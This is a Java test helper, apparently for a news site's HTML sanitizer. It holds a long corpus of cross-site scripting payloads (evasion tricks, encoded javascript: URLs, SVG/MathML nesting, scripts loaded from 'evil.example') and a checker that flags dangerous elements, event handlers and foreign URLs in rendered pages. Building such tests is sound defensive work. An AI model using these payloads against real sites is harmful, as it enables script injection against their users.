package id.warta;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;

/**
 * Snippets of HTML an attacker (or a careless paste) might put into an article, and what a page
 * holding them must not contain: anything a browser would run, load from elsewhere or let overlay
 * the page.
 */
public final class HostileHtml {
  private static final Set<String> FORBIDDEN_ELEMENTS =
      Set.of(
          "script",
          "iframe",
          "frame",
          "frameset",
          "object",
          "embed",
          "applet",
          "svg",
          "math",
          "style",
          "base",
          "textarea",
          "keygen",
          "video",
          "audio",
          "source",
          "template",
          "portal",
          "isindex",
          "marquee",
          "noscript",
          "dialog");
  private static final Set<String> URL_ATTRIBUTES =
      Set.of(
          "href",
          "src",
          "srcset",
          "action",
          "formaction",
          "data",
          "poster",
          "background",
          "cite",
          "xlink:href",
          "dynsrc",
          "lowsrc");

  private HostileHtml() {}

  public static List<String> corpus() {
    List<String> c =
        new ArrayList<>(
            List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<script>document.write('<img src=x onerror=alert(1)>')</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script/xss src=\"http://evil.example/x.js\"></script>",
                "<<script>alert(1);//<</script>",
                "<script\n>alert(1)</script\n>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"/media/a.jpg\" onerror=\"alert(1)\">",
                "<img src=javascript:alert(1)>",
                "<img src=\"jav&#x09;ascript:alert(1)\">",
                "<img src=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<img src=/media/x.jpg/onerror=alert(1)>",
                "<img srcset=\"javascript:alert(1) 1x\">",
                "<img dynsrc=\"javascript:alert(1)\">",
                "<img lowsrc=\"javascript:alert(1)\">",
                "<a href=\"javascript:alert(1)\">klik</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">klik</a>",
                "<a href=\" javascript:alert(1)\">klik</a>",
                "<a href=\"java\nscript:alert(1)\">klik</a>",
                "<a href=\"&#x6A;avascript:alert(1)\">klik</a>",
                "<a href=\"vbscript:msgbox(1)\">klik</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">klik</a>",
                "<a href=\"https://example.com\" onclick=\"alert(1)\">klik</a>",
                "<a href=\"https://example.com\" onmouseover=alert(1)>arahkan</a>",
                "<a href=\"https://example.com\""
                    + " style=\"position:fixed;top:0;left:0;width:100%;height:100%\">tutup</a>",
                "<a href=\"https://example.com\" target=\"_blank\">tab baru</a>",
                "<a xlink:href=\"javascript:alert(1)\">x</a>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\""
                    + " y=\"20\">x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
                "<svg><foreignObject><iframe"
                    + " src=javascript:alert(1)></iframe></foreignObject></svg>",
                "<math><mtext><table><mglyph><style><img src=x"
                    + " onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<object type=\"text/x-scriptlet\" data=\"http://evil.example/x\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<applet code=\"Evil.class\"></applet>",
                "<form action=\"javascript:alert(1)\"><input type=submit></form>",
                "<form><button formaction=\"javascript:alert(1)\">kirim</button></form>",
                "<input onfocus=alert(1) autofocus>",
                "<select onfocus=alert(1) autofocus></select>",
                "<textarea onfocus=alert(1) autofocus></textarea>",
                "<keygen onfocus=alert(1) autofocus>",
                "<video><source onerror=\"alert(1)\"></video>",
                "<video poster=javascript:alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<body onload=alert(1)>",
                "<body background=\"javascript:alert(1)\">",
                "<div onpointerover=alert(1)>x</div>",
                "<p onmouseenter=alert(1)>teks</p>",
                "<p style=\"background:url(javascript:alert(1))\">teks</p>",
                "<p style=\"behavior:url(evil.htc)\">teks</p>",
                "<p style=\"width:expression(alert(1))\">teks</p>",
                "<p style=\"-moz-binding:url(http://evil.example/x.xml#xss)\">teks</p>",
                "<div style=\"position:fixed;inset:0;z-index:9999;background:#fff\">Situs ini"
                    + " dibajak</div>",
                "<style>body{display:none}</style>",
                "<style>@import 'http://evil.example/x.css';</style>",
                "<style>*{background:url(\"javascript:alert(1)\")}</style>",
                "<link rel=stylesheet href=\"http://evil.example/x.css\">",
                "<link rel=import href=\"http://evil.example/x.html\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
                "<base href=\"http://evil.example/\">",
                "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
                "<td background=\"javascript:alert(1)\">x</td>",
                "<div><table><tr><td onmouseover=alert(1)>x</td></tr></table></div>",
                "<blockquote cite=\"javascript:alert(1)\">kutipan</blockquote>",
                "<h2 onclick=alert(1)>Subjudul</h2>",
                "<ul><li onclick=alert(1)>butir</li></ul>",
                "<figure onclick=alert(1)><img src=\"/media/x.jpg\""
                    + " alt=\"x\"><figcaption>x</figcaption></figure>",
                "<isindex action=javascript:alert(1) type=image>",
                "<xss style=\"xss:expression(alert(1))\">",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
                "<p>teks yang tidak ditutup <b>tebal <i>miring",
                "</p></div></article></main><script>alert(1)</script>",
                "</textarea><script>alert(1)</script>",
                "\"><script>alert(1)</script>",
                "'><img src=x onerror=alert(1)>",
                "<img src=`x` onerror=`alert(1)`>",
                "<a href=\"https://example.com\"\nonclick=alert(1)>x</a>",
                "<a href=https://example.com/\" onclick=\"alert(1)\">x</a>",
                "<img/src=\"x\"/onerror=alert(1)>",
                "<div id=\"x\" class=\"x\" data-x=\"javascript:alert(1)\">x</div>",
                "<a href=\"/media/../redaksi/keluar\">keluar</a>",
                "<img src=\"/media/../../etc/passwd\">",
                "<a href=\"\\\\evil.example\\x\">x</a>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<scrip\u0000t>alert(1)</script>",
                "<a href=\"java\u0000script:alert(1)\">x</a>",
                "<img src=x onerror=\"&#97;lert(1)\">",
                "<portal src=\"https://evil.example\"></portal>",
                "<dialog open onclose=alert(1)>x</dialog>"));
    for (String event :
        List.of("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart")) {
      for (String tag : List.of("img src=x", "p", "a href=\"https://example.com\"", "strong")) {
        c.add("<" + tag + " " + event + "=\"alert(1)\">x</" + tag.split(" ")[0] + ">");
      }
    }
    return c;
  }

  /**
   * Adds to {@code problems} what on the page (or body fragment) could run, load from elsewhere,
   * post somewhere or cover the page. The site's own structured data, search forms, style sheet,
   * feeds and icon are allowed.
   */
  /**
   * The button of a click-to-load block exactly as the site builds it for the block's own link
   * (platform/Embed): anything else that looks like one came from the typed HTML.
   */
  private static boolean isSitesEmbedButton(Element e) {
    Element block = e.closest("div.embed");
    Element link = block == null ? null : block.selectFirst("a.embed-open");
    return e.normalName().equals("button")
        && link != null
        && id.warta.platform.Embed.parse(link.attr("href"))
            .map(
                embed -> {
                  Document built = Jsoup.parseBodyFragment(embed.blockHtml());
                  built.outputSettings().prettyPrint(false);
                  block.ownerDocument().outputSettings().prettyPrint(false);
                  return built.body().child(0).outerHtml().equals(block.outerHtml());
                })
            .orElse(false);
  }

  public static void inspect(Document doc, String label, List<String> problems) {
    for (Element e : doc.getAllElements()) {
      String tag = e.normalName();
      // The site's own structured data is a script a browser never runs; it must stay whole.
      boolean structuredData =
          tag.equals("script")
              && e.attr("type").equals("application/ld+json")
              && e.attributes().size() == 1
              && e.closest("head") != null
              && !e.data().toLowerCase(Locale.ROOT).contains("</");
      // The site's own click-to-load script, after the body, and the embed blocks it drives.
      boolean embedScript =
          tag.equals("script")
              && e.attr("src").matches("/js/embed(-[0-9a-f]{8,64})?\\.js")
              && e.attributes().size() == 2
              && e.hasAttr("defer")
              && e.closest(".body") == null;
      if (FORBIDDEN_ELEMENTS.contains(tag) && !structuredData && !embedScript) {
        problems.add(label + ": element <" + tag + ">");
      }
      // The site's own GET forms (the Indeks date filter, search) are fine; no other form is.
      if (tag.equals("form")
          && (!e.attr("action").startsWith("/")
              || e.attr("action").startsWith("//")
              || e.attr("method").equalsIgnoreCase("post"))) {
        problems.add(label + ": form " + e.attr("action"));
      }
      if ((tag.equals("input") || tag.equals("button") || tag.equals("select"))
          && e.closest("form") == null
          && !isSitesEmbedButton(e)) {
        problems.add(label + ": control <" + tag + "> outside a form");
      }
      if (tag.equals("meta") && e.hasAttr("http-equiv")) {
        problems.add(label + ": meta http-equiv");
      }
      boolean ownFeed =
          e.attr("rel").equals("alternate") && e.attr("href").startsWith("http://localhost:8080/");
      if (tag.equals("link")
          && !(e.attr("rel").equals("stylesheet") && e.attr("href").startsWith("/css/"))
          && !e.attr("rel").equals("canonical")
          && !ownFeed
          && !(e.attr("rel").equals("icon") && e.attr("href").equals("/favicon.ico"))) {
        problems.add(label + ": link " + e.outerHtml());
      }
      for (Attribute attribute : e.attributes()) {
        String name = attribute.getKey().toLowerCase(Locale.ROOT);
        String value =
            attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("[\\s\\u0000-\\u001f]", "");
        if (name.startsWith("on")) {
          problems.add(label + ": event handler " + name + " on <" + tag + ">");
        }
        if (name.equals("style") || name.equals("srcdoc")) {
          problems.add(label + ": " + name + " attribute on <" + tag + ">");
        }
        if (URL_ATTRIBUTES.contains(name)
            && (value.startsWith("javascript:")
                || value.startsWith("vbscript:")
                || value.startsWith("data:")
                || value.contains("javascript:"))) {
          problems.add(label + ": " + name + "=" + attribute.getValue() + " on <" + tag + ">");
        }
        if (tag.equals("img") && name.equals("src") && !value.startsWith("/media/")) {
          problems.add(label + ": image from elsewhere " + attribute.getValue());
        }
        if (tag.equals("img") && name.equals("src") && value.contains("..")) {
          problems.add(label + ": image path escapes " + attribute.getValue());
        }
      }
    }
  }
}
